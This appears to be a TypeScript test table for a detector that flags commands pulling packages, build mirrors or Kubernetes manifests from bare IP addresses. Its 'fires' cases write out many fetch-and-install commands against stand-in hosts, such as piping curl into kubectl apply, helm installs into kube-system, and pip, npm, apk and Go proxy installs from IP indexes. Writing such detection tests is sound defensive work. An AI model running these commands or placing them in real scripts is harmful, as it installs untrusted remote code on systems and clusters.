import { cronJob, indicatorTable, runs, script, UNSEEN, withFiles } from '../testing.ts';
import { commandPackageFromAddress } from './package-from-address.ts';

const settings = (to: string): string =>
  JSON.stringify({
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: { name: 'builds' },
    data: { npmrc: `registry=${to}` },
  });
const MAVEN = '<settings><mirrors><mirror><id>a</id><mirrorOf>*</mirrorOf><url>TO</url></mirror></mirrors></settings>';

indicatorTable(commandPackageFromAddress, {
  fires: {
    'objects that come without encryption': script('curl -s http://m.addons.example.net/a.yaml | kubectl apply -f -'),
    'objects that a client under another name creates': script(
      'curl -fsSL -o /tmp/k https://dl.k8s.io/release/v1.29.0/bin/linux/amd64/kubectl; /tmp/k apply -f http://203.0.113.7/i.yaml',
    ),
    'settings of builds in a ConfigMap that is applied': withFiles({ a: settings('http://203.0.113.7:8081/npm/') }, [
      ...['kubectl', 'apply', '-f', '/m/a'],
    ]),
    'settings of builds in a patch': script(
      `kubectl patch cm builds -p '{"data":{"pip.conf":"[global]\\nindex-url = http://203.0.113.7/simple"}}'`,
    ),
    'settings of Maven in a file': script(
      `echo '${MAVEN.replace('TO', 'http://203.0.113.7/m2')}' > /home/a/.m2/settings.xml`,
    ),
    'a chart': script('helm install a http://203.0.113.9/c-0.1.0.tgz -n kube-system'),
    'objects at an address': script('kubectl apply -n shop -f http://9.9.9.9/ds.yaml'),
    'the same in one word': script('oc create --filename=https://9.9.9.9:8443/ds.yaml'),
    'a repository at an address': script('pip install git+http://9.9.9.9/x.git && python -m x'),
    'an archive under the name of a package': script('pip install "x @ http://9.9.9.9/x.tgz"'),
    'an index of an address': runs('pip', 'install', '--index-url', 'http://203.0.113.7/simple', 'report'),
    'in one word': script('pip3 install --extra-index-url=http://203.0.113.7:8080/simple report'),
    'a short option joined with its value': script('pip install -ihttp://203.0.113.7/simple report'),
    'as a module of Python': script('python3 -m pip install --index-url http://203.0.113.7/simple report'),
    'a package by its address': script('pip install http://203.0.113.7/report-1.0.tar.gz'),
    'with a user': script('npm install --registry https://a:b@203.0.113.7/ report'),
    'a file that the other manager gets': runs('rpm', '-i', 'https://198.51.100.9/a.rpm'),
    'a repository of the distribution': script('apk add -X http://203.0.113.7/alpine --allow-untrusted report'),
    'behind wrappers': script('sudo -H env PIP_NO_CACHE_DIR=1 timeout 60 pip install -i http://203.0.113.7/simple a'),
    'the address in a variable': script('I=203.0.113.7; pip install -i "http://$I/simple" a'),
    'in the environment of the command': script('PIP_INDEX_URL=http://203.0.113.7/simple pip install a'),
    'in the environment of the container': cronJob({
      containers: [
        {
          name: 'main',
          image: 'a',
          env: [{ name: 'PIP_INDEX_URL', value: 'http://203.0.113.7/simple' }],
          command: ['pip', 'install', 'a'],
        },
      ],
    }),
    'a proxy for modules of Go': script(
      'GONOSUMDB=* GOPROXY=http://203.0.113.7:8081 go run tool.example.com/agent@latest',
    ),
    'objects that a pipe brings': script('curl -s http://203.0.113.7/a.yaml | kubectl apply -f -'),
    'objects in a file that was brought': script(
      'wget -qO /tmp/a.yaml http://203.0.113.7/a.yaml; kubectl create -f /tmp/a.yaml',
    ),
  },
  staysSilent: {
    'settings of builds with a mirror of the company': withFiles({ a: settings('https://npm.example.com/') }, [
      ...['kubectl', 'apply', '-f', '/m/a'],
    ]),
    'settings of Maven with a private address': script(
      `echo '${MAVEN.replace('TO', 'http://10.2.0.7/m2')}' > /home/a/.m2/settings.xml`,
    ),
    'objects of a project, in a pipe': script(
      'curl -sL https://github.com/acme/tool/releases/v1/a.yaml | kubectl apply -f -',
    ),
    'objects that are only looked at': script('curl -s http://203.0.113.7/a.yaml > /tmp/a; kubectl get -f /tmp/a'),
    'a chart of a host with a name': script('helm upgrade --install a https://charts.example.com/a-1.tgz'),
    'objects of a known host': script('kubectl apply -f https://github.com/acme/x/releases/download/v1/x.yaml'),
    'objects of the own network': script('kubectl apply -f http://10.0.0.7/x.yaml'),
    'objects in a file': script('kubectl apply -f /manifests/x.yaml'),
    'a repository of a known host': script('pip install git+https://github.com/acme/x.git@v1.4.0'),
    'the public proxy for modules of Go': script(
      'GOPROXY=https://proxy.golang.org,direct go install golang.org/x/vuln/cmd/govulncheck@v1.1.3',
    ),
    'the public index': script('pip install --no-cache-dir requests==2.32.0'),
    'a mirror with a name': script('pip install -i https://pypi.example.com/simple --trusted-host pypi.example.com a'),
    'a mirror by an address for private use': script('pip install -i http://10.20.0.5:3141/root/pypi a'),
    'another one': script('npm ci --registry=http://192.168.4.10:4873'),
    'a service of the cluster': script('pip install --index-url http://devpi.tools.svc:3141/simple a'),
    'the loopback': script('pip install -i http://127.0.0.1:3141/simple a'),
    'a release by its address': script('pip install https://dl.example.com/report-1.0-py3-none-any.whl'),
    'packages of the distribution': script('apt-get update && apt-get install -y curl jq'),
    'a proxy by its address': script('pip install --proxy http://10.0.0.8:3128 a'),
    'a version that looks like an address': script('pip install a==1.2.3.4'),
  },
  cannotTell: UNSEEN,
});
